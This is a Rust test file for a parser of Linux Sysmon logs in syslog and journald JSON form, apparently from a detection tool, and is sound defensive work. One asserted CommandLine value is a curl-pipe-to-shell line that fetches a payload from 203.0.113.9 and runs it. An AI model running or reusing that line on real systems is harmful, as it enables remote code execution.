use super::*;
use crate::formats::testsink::{Run, run};

const MALICIOUS: &str = include_str!("../../tests/fixtures/sysmon_linux/malicious_dbus_child.log");
const BENIGN: &str = include_str!("../../tests/fixtures/sysmon_linux/benign_dbus_helper.log");
const JOURNAL: &str = include_str!("../../tests/fixtures/sysmon_linux/malicious_journal.json");

fn syslog_run(name: &str, text: &str) -> Run {
    run(name, text.as_bytes(), |b, f, ctx, sink| {
        read_syslog(b, f, ctx, sink).unwrap()
    })
}

#[test]
fn sniffs_syslog_and_journal_but_not_other_formats() {
    assert!(sniff(MALICIOUS.as_bytes()));
    assert!(sniff(BENIGN.as_bytes()));
    assert!(sniff(JOURNAL.as_bytes()));
    assert!(is_journal_json(JOURNAL.as_bytes()) && !is_journal_json(MALICIOUS.as_bytes()));
    // Bare XML and evtx_dump-style JSON of the same events belong to the
    // Windows XML and JSON readers.
    let bare = event_xml(MALICIOUS.lines().next().unwrap()).unwrap();
    assert!(!sniff(bare.as_bytes()));
    assert!(!sniff(
        br##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Linux-Sysmon"}},"EventID":1,"Channel":"Linux-Sysmon/Operational"},"EventData":{"Image":"/usr/bin/id"}}}"##
    ));
    assert!(!sniff(
        b"Nov 20 09:14:01 build-07 systemd[1]: Started Session 12.\n"
    ));
    // RFC 5424 lines as a collector forwards them, with the priority.
    let pri = format!("<14>1 2026-11-20T09:14:00Z build-07 sysmon 812 - - {bare}\n");
    assert!(sniff(pri.as_bytes()));
    assert_eq!(
        crate::formats::sniff(pri.as_bytes()),
        Some(crate::Format::SysmonLinux)
    );
}

#[test]
fn syslog_lines_give_sysmon_events() {
    let r = syslog_run("syslog", MALICIOUS);
    assert!(r.bad.is_empty(), "{:?}", r.bad);
    assert_eq!(r.events.len(), 3);
    assert_eq!(
        r.text(0, "Channel").as_deref(),
        Some("Linux-Sysmon/Operational")
    );
    assert_eq!(r.text(0, "Provider_Name").as_deref(), Some("Linux-Sysmon"));
    assert_eq!(r.text(0, "EventID").as_deref(), Some("1"));
    assert_eq!(r.text(0, "Computer").as_deref(), Some("build-07"));
    assert_eq!(r.text(0, "Image").as_deref(), Some("/usr/bin/bash"));
    assert_eq!(
        r.text(0, "ParentImage").as_deref(),
        Some("/usr/bin/dbus-daemon")
    );
    // XML entities in the command line are decoded.
    assert_eq!(
        r.text(0, "CommandLine").as_deref(),
        Some("/bin/bash -c id > /tmp/.x && curl -s http://203.0.113.9/p | sh")
    );
    assert_eq!(r.events[0].prov.locator, Locator::Line(1));
    assert_eq!(r.events[1].prov.locator, Locator::Line(3));
    assert_eq!(
        r.events[0].prov.timestamp.map(|t| t.to_string()).as_deref(),
        Some("2026-11-20T09:14:00.104211Z")
    );
    assert_eq!(r.text(2, "DestinationIp").as_deref(), Some("203.0.113.9"));
    let pc = r
        .tax
        .sources_for(Some("linux"), Some("process_creation"), None);
    let nc = r
        .tax
        .sources_for(Some("linux"), Some("network_connection"), None);
    assert!(pc.iter().any(|s| s.matches(&r.events[0], &r.tax)));
    assert!(!pc.iter().any(|s| s.matches(&r.events[2], &r.tax)));
    assert!(nc.iter().any(|s| s.matches(&r.events[2], &r.tax)));
}

#[test]
fn journal_json_gives_the_same_events() {
    let s = syslog_run("syslog", MALICIOUS);
    let j = run("journal.json", JOURNAL.as_bytes(), |b, f, ctx, sink| {
        read_journal(b, f, ctx, sink)
    });
    assert!(j.bad.is_empty(), "{:?}", j.bad);
    assert_eq!(j.events.len(), 3);
    for i in 0..3 {
        for f in [
            "EventID",
            "Image",
            "CommandLine",
            "ParentImage",
            "Computer",
            "User",
        ] {
            assert_eq!(j.text(i, f), s.text(i, f), "{f}");
        }
    }
}

#[test]
fn broken_event_lines_are_bad_records() {
    let text = format!(
        "{}\nNov 20 09:15:00 build-07 sysmon: <Event><System><EventID>1</EventID></System><EventData><Data Name=\"Image\">/x</Dat\n",
        BENIGN.lines().next().unwrap()
    );
    let r = syslog_run("broken", &text);
    assert_eq!(r.events.len(), 1);
    assert_eq!(r.bad.len(), 1);
    assert_eq!(r.bad[0].locator, Some(Locator::Line(2)));
}

#[test]
fn benign_fixture_reads_cleanly() {
    let r = syslog_run("benign", BENIGN);
    assert!(r.bad.is_empty());
    assert_eq!(r.events.len(), 3);
    assert_eq!(
        r.text(2, "CommandLine").as_deref(),
        Some("docker ps --format {{.Names}}")
    );
}
